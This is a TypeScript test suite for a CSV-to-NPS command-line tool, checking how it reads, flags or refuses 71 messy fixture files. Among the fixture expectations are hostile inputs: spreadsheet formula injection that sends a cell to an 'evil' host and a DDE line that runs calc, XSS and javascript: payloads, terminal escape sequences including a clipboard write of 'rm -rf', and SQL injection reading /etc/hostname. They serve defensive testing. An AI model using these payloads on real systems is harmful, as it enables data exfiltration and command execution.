import { readFileSync } from 'node:fs';
import type { OkResult, Report } from '../src/results/result.ts';
import { resultOf, runCx } from './run-cx.ts';
import { slowTest, some } from './often.ts';

const folder = 'fixtures/messy';
const index = JSON.parse(readFileSync(`${folder}/index.json`, 'utf8')) as readonly { file: string; safe: string }[];

/** What the file is read as: the copy that `cx convert` writes says which rows, the report says what else. */
interface Read {
  /** The checked copy; for large files, its number of records and what is on some of them. */
  readonly copy: string | { readonly records: number; readonly holds: readonly string[] };
  readonly rejected?: readonly (readonly [line: number, reason: string, detail?: string])[];
  readonly encoding?: string;
  readonly delimiter?: string;
  readonly headerRows?: number;
  readonly decimal?: string;
  readonly dateOrder?: string;
  readonly notices?: readonly string[];
}

/** A refusal: the code of the error, words of its message, and the line. */
interface Refused {
  readonly refused: string;
  readonly says?: RegExp;
  readonly line?: number;
  /** The column that holds scores, where its header does not say so. */
  readonly score?: string;
}

const broken = ['warning records-rejected'];
const uncut = 'info no-final-newline';
const late = (record: string) => ({ records: 50_000, holds: [`29999,2,ok\n${record}\n30001,4,ok\n`] });
const unreadable = ['warning values-unreadable'];
const noZone = 'info times-without-zone';

const behaviour: Readonly<Record<string, Read | Refused>> = {
  'row-short.csv': {
    copy: 'id,score,reason,comment\n1,9,price,\n3,7,service,ok\n',
    rejected: [[3, 'field-count', '3 fields, expected 4']],
    notices: broken,
  },
  'row-long-last-empty.csv': {
    copy: 'id,score,reason,comment\n1,9,price,\n3,7,service,ok\n',
    rejected: [[3, 'field-count', '5 fields, expected 4']],
    notices: broken,
  },
  'row-long.csv': {
    copy: 'id,score,reason,comment\n1,9,price,x\n3,7,service,ok\n',
    rejected: [[3, 'field-count', '5 fields, expected 4']],
    notices: broken,
  },
  'half-unquoted-comma.csv': {
    copy: `id,score,comment\n${Array.from({ length: 10 }, (_, at) => `${at},9,ok\n`).join('')}`,
    rejected: Array.from({ length: 10 }, (_, at) => [12 + at, 'field-count', '4 fields, expected 3'] as const),
    notices: broken,
  },
  'quote-inside-quoted.csv': {
    copy: 'id,score,comment\n2,8,fine\n3,7,ok\n',
    rejected: [[2, 'stray-quote']],
    notices: broken,
  },
  'quote-inside-unquoted.csv': {
    copy: 'id,price,desc\n1,9,ok\n3,7,x\n',
    rejected: [[3, 'stray-quote']],
    notices: broken,
  },
  'unclosed-quote-header.csv': { refused: 'broken-header', says: /a quote opens and is never closed/u, line: 1 },
  'unclosed-quote-middle.csv': {
    copy: 'id,score,c\n1,9,ok\n',
    rejected: [[3, 'unclosed-quote', 'a quote opens and is never closed (lines 3–5)']],
    notices: broken,
  },
  'last-line-cut.csv': {
    copy: 'id,score,c\n1,9,ok\n',
    rejected: [[3, 'field-count', '2 fields, expected 3']],
    notices: [...broken, uncut],
  },
  'last-line-no-newline.csv': { copy: 'id,score\n1,9\n2,10\n', notices: [uncut] },
  'preamble.csv': { copy: 'id,score\n1,9\n2,8\n', notices: ['warning preamble-skipped'] },
  'sep-line.csv': { copy: 'id,c\n1,x\n2,y\n', delimiter: ';', notices: ['info separator-line'] },
  'three-headers-qualtrics.csv': {
    copy: 'StartDate,Q1,Q2\n2024-01-01 10:00:00,9,good\n2024-01-02 10:00:00,3,bad\n',
    headerRows: 3,
    dateOrder: 'ymd',
    notices: [noZone, 'info layout'],
  },
  'footer-total.csv': {
    copy: 'id,score\n1,9\n2,8\n',
    rejected: [[4, 'footer', 'a total at the end, not a record']],
    notices: broken,
  },
  'two-tables.csv': { refused: 'second-table', line: 5 },
  'all-text-header.csv': { copy: 'name,city\nAnn,Rome\nBob,Paris\n' },
  'numeric-header.csv': { copy: 'cust,2021,2022\n1,2,3\n4,5,6\n' },
  'all-numeric-header.csv': { refused: 'header-looks-like-data', says: /is it a header or data/u },
  'dup-header.csv': {
    copy: 'id,Score,score,ID\n1,2,3,4\n',
    notices: ['warning column-ambiguous', 'warning column-ambiguous'],
  },
  'empty-header.csv': { copy: 'id,column_2,score,column_4\n1,2,3,4\n', notices: ['info header-blank'] },
  'header-spaces.csv': { copy: 'id,score\n1,9\n', notices: ['info header-trimmed'] },
  'header-newline.csv': { copy: '"How likely\nare you?",id\n9,1\n8,2\n' },
  'bom.csv': { copy: 'id,score\n1,9\n' },
  'utf16le.csv': { copy: 'id,c\n1,café\n2,ok\n', encoding: 'utf-16le' },
  'cp1252.csv': { copy: 'id,c\n1,café\n2,it’s\n', encoding: 'windows-1252' },
  'c1-mojibake.csv': { copy: 'id,c\n1,HR \u0096 PENSION\n2,ok\n', notices: ['warning c1-controls'] },
  'nul-byte.csv': { refused: 'nul-byte', says: /a NUL byte/u, line: 2, score: 's' },
  'mixed-newlines.csv': { copy: 'id,s\n1,9\n2,8\n3,7\n' },
  'cr-only.csv': { copy: 'id,s\n1,9\n2,8\n' },
  'blank-lines.csv': { copy: 'id,s\n1,9\n2,8\n3,7\n', notices: ['info blank-lines'] },
  'one-column.csv': { copy: 'score\n9\n7\n', notices: ['info blank-lines'] },
  'one-text-column.csv': {
    copy: 'comment\nfoo; bar\nbaz\n',
    rejected: [[2, 'field-count', '2 fields, expected 1']],
    notices: broken,
  },
  'semicolon-decimal-comma.csv': {
    copy: 'id,score,comment\n1,"9,5",good\n2,"8,5",fine\n3,"7,0",ok\n',
    delimiter: ';',
    decimal: ',',
  },
  'thousands-point.csv': { copy: 'id,amount\n1,"1.234,56"\n2,"12,00"\n', delimiter: ';', decimal: ',' },
  'late-decimal.csv': { copy: late('30000,7.5,ok'), decimal: '.' },
  'late-na.csv': { copy: late('30000,N/A,ok'), notices: ['info missing-words'] },
  'late-quoted-comma.csv': { copy: late('30000,7,"Great, thanks"') },
  'late-doubled-quotes.csv': { copy: late('30000,7,"said ""hi"" twice"') },
  'late-extra-field.csv': {
    copy: { records: 49_999, holds: ['29999,2,ok\n30001,4,ok\n'] },
    rejected: [[30_001, 'field-count', '4 fields, expected 3']],
    notices: broken,
  },
  'late-unclosed.csv': {
    copy: { records: 29_999, holds: ['29998,1,ok\n29999,2,ok\n'] },
    rejected: [[30_001, 'unclosed-quote', 'a quote opens and is never closed (lines 30001–50001)']],
    notices: broken,
  },
  'late-sci.csv': { copy: late('30000,1e1,ok'), notices: unreadable },
  'late-underscore.csv': { copy: late('30000,9_0,ok'), notices: unreadable },
  'late-hex.csv': { copy: late('30000,0x0A,ok'), notices: unreadable },
  'leading-zeros.csv': { copy: 'cust_id,score\n00123,9\n00045,8\n' },
  'long-ids.csv': { copy: 'cust_id,score\n12345678901234567890,9\n12345678901234567891,8\n' },
  'exp-ids.csv': { copy: 'cust_id,score\n1e5,9\n2e5,8\n100000,7\n' },
  'nan-inf.csv': { copy: 'score\n1\nnan\ninf\n3\n', notices: unreadable },
  'nulls.csv': { copy: 'name,score\nNULL,9\nNA,8\n,7\n,6\n-,5\nnan,4\n', notices: ['info missing-words'] },
  'ambiguous-dates.csv': {
    copy: 'd,x\n01/02/2024,1\n03/04/2024,2\n05/06/2024,3\n',
    notices: ['warning date-order-ambiguous'],
  },
  'mixed-dates.csv': {
    copy: 'd,x\n2024-01-05,1\n05/01/2024,2\n13/01/2024,3\n',
    dateOrder: 'dmy',
  },
  'two-digit-year.csv': {
    copy: 'd,x\n01/02/24,1\n03/04/68,2\n',
    notices: ['warning date-order-ambiguous', 'warning two-digit-year'],
  },
  'excel-serial.csv': { copy: 'd,x\n45292,1\n45293,2\n', notices: ['warning excel-serial'] },
  'dst-gap.csv': {
    copy: 'ts,x\n2024-03-10 02:30:00,1\n2024-11-03 01:30:00,2\n',
    dateOrder: 'ymd',
    notices: [noZone],
  },
  'leap-day.csv': { copy: 'd,x\n2024-02-29,1\n2023-02-29,2\n', dateOrder: 'ymd', notices: unreadable },
  'tz-mixed.csv': {
    copy: 'ts,x\n2024-01-01T23:30:00Z,1\n2024-01-01T23:30:00-05:00,2\n',
    dateOrder: 'ymd',
    notices: ['info days-in-zone'],
  },
  'formula.csv': {
    copy: 'id,comment\n1,"=HYPERLINK(""http://evil/?""&A1,""x"")"\n2,+cmd|\' /C calc\'!A0\n3,@SUM(1)\n4,-2+3\n5,\t=1\n',
  },
  'html.csv': {
    copy: 'id,comment\n1,<script>alert(1)</script>\n2,</script><img src=x onerror=alert(1)>\n3,<!--<script>\n4,javascript:alert(1)\n5,a\u2028b\n',
  },
  'markdown.csv': { copy: 'id,segment\n1,a|b\n2,![x](http://evil/t.png)\n3,[x](javascript:alert(1))\n4,`x`\n' },
  'terminal.csv': {
    copy: 'id,comment\n1,\u001B]0;PWNED\u0007\n2,\u001B[2J\u001B[H\n3,\u001B]52;c;cm0gLXJm\u0007\n4,\u009B31m\n5,abc\u202Edef\n6,"ok\rFAKE"\n',
    notices: ['warning c1-controls'],
  },
  'proto.csv': { copy: '__proto__,constructor,toString,score\na,b,c,9\nd,e,f,8\n' },
  'proto-values.csv': { copy: 'segment,score\n__proto__,9\nconstructor,8\ntoString,7\n__proto__,5\n' },
  'sql-column.csv': {
    copy: `id,"id"" , (select content from read_text('/etc/hostname')) as ""x",s\n1,a,9\n`,
  },
  'small-cell.csv': {
    copy: `store,score\n${[0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 0].map((score) => `A,${score}\n`).join('')}B,1\nB,2\n`,
  },
  'truncated-gz.csv.gz': { refused: 'gzip-broken', says: /the gzip stream ends early/u },
  'bad-crc-gz.csv.gz': { refused: 'gzip-broken', says: /incorrect data check/u },
  'header-only.csv': { copy: 'id,score\n' },
  'empty.csv': { refused: 'empty-file', says: /is empty/u },
  'git-conflict.csv': {
    copy: 'id,score\n1,9\n1,8\n',
    rejected: [
      [2, 'field-count', '1 field, expected 2'],
      [4, 'field-count', '1 field, expected 2'],
      [6, 'field-count', '1 field, expected 2'],
    ],
    notices: broken,
  },
  'html-not-csv.csv': { refused: 'not-csv', says: /not a CSV file but HTML/u },
  'json-not-csv.csv': { refused: 'not-csv', says: /not a CSV file but JSON/u },
  'xlsx-not-csv.csv': { refused: 'not-csv', says: /an Excel workbook/u },
};

test('every messy file is in the table, and no other', () => {
  expect(Object.keys(behaviour)).toEqual(index.map(({ file }) => file));
  expect(index).toHaveLength(71);
});

describe('a messy file is exact, flagged or refused', () => {
  test.each(some(index, 6, 2))('$file: $safe', async ({ file }) => {
    const expected = behaviour[file]!;
    await ('refused' in expected ? expectRefusal(file, expected) : expectReading(file, expected));
  });
});

async function expectRefusal(file: string, { refused, says, line, score }: Refused): Promise<void> {
  const copied = await runCx(['convert', `${folder}/${file}`]);
  expect({ status: copied.status, stdout: copied.stdout }).toEqual({ status: 3, stdout: '' });
  const mapped = score === undefined ? [] : ['--map', `recommend_score=${score}`];
  for (const command of ['columns', 'nps']) {
    const { status, stdout, stderr } = await runCx([command, `${folder}/${file}`, ...mapped, '--format', 'json']);
    expect({ command, status, stdout }).toEqual({ command, status: 3, stdout: '' });
    const { error } = JSON.parse(stderr) as { error: { code: string; message: string; file: string; line?: number } };
    expect(error).toMatchObject({ code: refused, file: `${folder}/${file}`, ...(line === undefined ? {} : { line }) });
    if (says !== undefined) expect(error.message).toMatch(says);
  }
}

async function expectReading(file: string, expected: Read): Promise<void> {
  const path = `${folder}/${file}`;
  const { status, stdout, stderr } = await runCx(['columns', path, '--format', 'json']);
  expect({ status, stderr }).toEqual({ status: 0, stderr: '' });
  const { sources, results } = JSON.parse(stdout) as Report;
  const [source] = sources;
  const result = results[0] as OkResult;
  const rejected = (expected.rejected ?? []).map(([line, reason, detail]) => ({
    line,
    reason,
    detail: detail ?? expect.any(String),
  }));
  const copied = await copyOf(path);
  const rows = copied.trimEnd().split('\n').length - 1;
  if (typeof expected.copy === 'string') expect(copied).toBe(expected.copy);
  else {
    expect(rows).toBe(expected.copy.records);
    for (const part of expected.copy.holds) expect(copied).toContain(part);
  }
  expect(result.tables.find(({ name }) => name === 'rejected')!.rows).toEqual(rejected);
  expect(result.notices.map(({ severity, code }) => `${severity} ${code}`)).toEqual(expected.notices ?? []);
  expect(source).toMatchObject({
    rejected: rejected.length,
    understood: {
      encoding: expected.encoding ?? 'utf-8',
      delimiter: expected.delimiter ?? ',',
      header_rows: expected.headerRows ?? 1,
      decimal: expected.decimal ?? null,
      date_order: expected.dateOrder ?? null,
    },
  });
  expect(result.accounting.read).toBe(source!.records);
  expect(result.accounting.used).toBe(source!.records - rejected.length);
}

async function copyOf(path: string): Promise<string> {
  const { status, stdout } = await runCx(['convert', path, '--quiet']);
  expect(status).toBe(0);
  return stdout;
}

describe('the scores of messy files', () => {
  const nps = (file: string, ...more: string[]) => resultOf(['nps', `${folder}/${file}`, ...more]);
  const overall = async (file: string, ...more: string[]) =>
    (await nps(file, ...more)).tables.find(({ name }) => name === 'overall')!.rows[0];

  test.each([
    ['late-decimal.csv', 'value-unreadable', '7.5'],
    ['late-na.csv', 'value-missing', 'N/A'],
    ['late-sci.csv', 'value-unreadable', '1e1'],
    ['late-underscore.csv', 'value-unreadable', '9_0'],
    ['late-hex.csv', 'value-unreadable', '0x0A'],
  ])('in %s the one odd value is left out as %s and listed: %s', async (file, reason, value) => {
    const { accounting } = await nps(file);
    const excluded = [{ reason, column: 'recommend_score', rows: 1, values: [{ value, rows: 1 }] }];
    expect(accounting).toEqual({ read: 50_000, used: 49_999, excluded });
  });

  // Ids from 1 have the scores 1, 2, … 10, 0, 1 …: 50,000 = 4,545 × 11 + 5. Of ids 49,996 to 50,000 none scores over 6.
  slowTest.each(['late-quoted-comma.csv', 'late-doubled-quotes.csv'])('all 50,000 of %s are used', async (file) => {
    expect(await overall(file)).toMatchObject({ n: 50_000, promoters: 9090, passives: 9091, detractors: 31_819 });
  });

  test('infinite and undefined scores are left out', async () => {
    const { accounting } = await nps('nan-inf.csv');
    expect(accounting).toMatchObject({ read: 4, used: 2, excluded: [{ reason: 'value-unreadable', rows: 2 }] });
    expect(accounting.excluded[0]!.values).toEqual([
      { value: 'inf', rows: 1 },
      { value: 'nan', rows: 1 },
    ]);
  });

  test('rows with unquoted commas leave the good ten', async () => {
    expect(await overall('half-unquoted-comma.csv')).toMatchObject({ n: 10, promoters: 10 });
  });

  test('a column that two headers could be is no score until one is chosen', async () => {
    const { status, stderr } = await runCx(['nps', `${folder}/dup-header.csv`, '--format', 'json']);
    expect(status).toBe(3);
    expect(JSON.parse(stderr)).toMatchObject({ error: { code: 'column-ambiguous' } });
    for (const [header, score] of [
      ['Score', 2],
      ['score', 3],
    ] as const) {
      const chosen = ['--map', `recommend_score=${header}`, '--map', 'response_id=ID'];
      const { tables } = await nps('dup-header.csv', ...chosen);
      const distribution = tables.find(({ name }) => name === 'distribution')!.rows;
      expect(distribution.find(({ n }) => n === 1)).toMatchObject({ score });
    }
  });

  test('segments named like members of every object keep their answers', async () => {
    const segments = (await nps('proto-values.csv', '--by', 'segment')).tables.find(({ name }) => name === 'segments')!;
    expect(segments.rows.map((row) => [row['segment'], row['n']])).toEqual([
      ['__proto__', 2],
      ['constructor', 1],
      ['toString', 1],
    ]);
  });

  test.each(['scan', 'duckdb'])(
    'a header that looks like SQL is a name like any other, in the engine %s',
    async (engine) => {
      const name = `id" , (select content from read_text('/etc/hostname')) as "x`;
      const { tables } = await nps('sql-column.csv', '--map', 'recommend_score=s', '--by', name, '--engine', engine);
      expect(tables.find((table) => table.name === 'segments')!.rows).toMatchObject([{ [name]: 'a', n: 1 }]);
    },
  );

  test('with --min-n, no total gives a small group away', async () => {
    const { tables, notices } = await nps('small-cell.csv', '--by', 'store', '--min-n', '10');
    const segments = tables.find(({ name }) => name === 'segments')!.rows;
    expect(segments).toMatchObject([
      { store: 'A', n: null, nps: null, suppressed: true },
      { store: 'B', n: null, nps: null, suppressed: true },
    ]);
    expect(notices.map(({ code }) => code)).toContain('suppressed');
  });

  test('a file without records is reported as such', async () => {
    const { accounting, notices, headlines } = await nps('header-only.csv');
    expect(accounting).toEqual({ read: 0, used: 0, excluded: [] });
    expect(headlines[0]).toMatchObject({ value: null, n: 0 });
    expect(notices.map(({ code }) => code)).toContain('no-answers');
  });

  test('days are those of UTC where times have a zone, whatever the machine', async () => {
    const { tables } = await nps(
      'tz-mixed.csv',
      '--map',
      'recommend_score=x',
      '--map',
      'submitted_at=ts',
      '--period',
      'day',
    );
    expect(JSON.stringify(tables)).toContain('2024-01-02');
  });

  test('words that stand for no answer are counted, each', async () => {
    const { notices } = await resultOf(['columns', `${folder}/nulls.csv`]);
    expect(notices.find(({ code }) => code === 'missing-words')!.message).toContain('"-" ×1, "NA" ×1, "NULL" ×1');
  });

  test('dates that do not tell day from month stop a trend, and --date-order settles them', async () => {
    const asked = ['--map', 'recommend_score=x', '--map', 'submitted_at=d', '--period', 'month'];
    const { status, stderr } = await runCx(['nps', `${folder}/ambiguous-dates.csv`, ...asked, '--format', 'json']);
    expect(status).toBe(3);
    expect(JSON.parse(stderr)).toMatchObject({ error: { code: 'date-order-ambiguous' } });
    const { tables } = await nps('ambiguous-dates.csv', ...asked, '--date-order', 'mdy');
    expect(JSON.stringify(tables)).toContain('2024-05');
  });
});
